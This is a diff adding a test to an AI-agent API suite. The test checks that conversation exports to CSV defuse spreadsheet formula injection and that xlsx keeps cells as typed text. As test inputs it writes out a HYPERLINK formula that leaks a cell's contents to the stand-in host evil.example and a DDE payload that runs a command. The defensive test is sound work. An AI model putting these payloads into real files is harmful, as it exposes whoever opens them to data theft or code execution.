@@ -126,6 +126,23 @@ describe("conversation details", () => {
     expect(sheet.rowCount).toBe(5);
   });
 
+  it("keeps the askers' text as text in a CSV: a cell that would read as a formula is quoted", async () => {
+    const agent = (await call(alice, "POST", "/aiagent_api/agent/quick/add", { agentName: "导出" })).data.agentId as string;
+    const formula = '=HYPERLINK("https://evil.example/?d="&A3,"点我")';
+    await sessionAs(bob, 1, formula, "@SUM(1+1)*cmd|' /C calc'!A0", agent);
+    const url = `/aiagent_api/agent/${agent}/conversations/export?days=7`;
+    const csv = await t.app.inject({ method: "GET", url: `${url}&format=csv`, headers: alice.headers });
+    expect(csv.body).toContain(`"'=HYPERLINK(""https://evil.example/?d=""&A3,""点我"")"`);
+    expect(csv.body).toContain("'@SUM(1+1)");
+    expect(csv.body).not.toMatch(/(^|,)"?[=@]/m);
+    // In xlsx a cell is typed text: it keeps the text exactly.
+    const xlsx = await t.app.inject({ method: "GET", url: `${url}&format=xlsx`, headers: alice.headers });
+    const book = new ExcelJS.Workbook();
+    await book.xlsx.load(xlsx.rawPayload as unknown as ArrayBuffer);
+    const cells = book.worksheets[0].getColumn(6).values;
+    expect(cells).toContain(formula);
+  });
+
   it("is the owner's only: other users, other tenants and other agents' sessions are not found", async () => {
     for (const user of [bob, carol]) {
       expect((await call(user, "GET", A("/conversations?days=7"))).status).toBe(404);
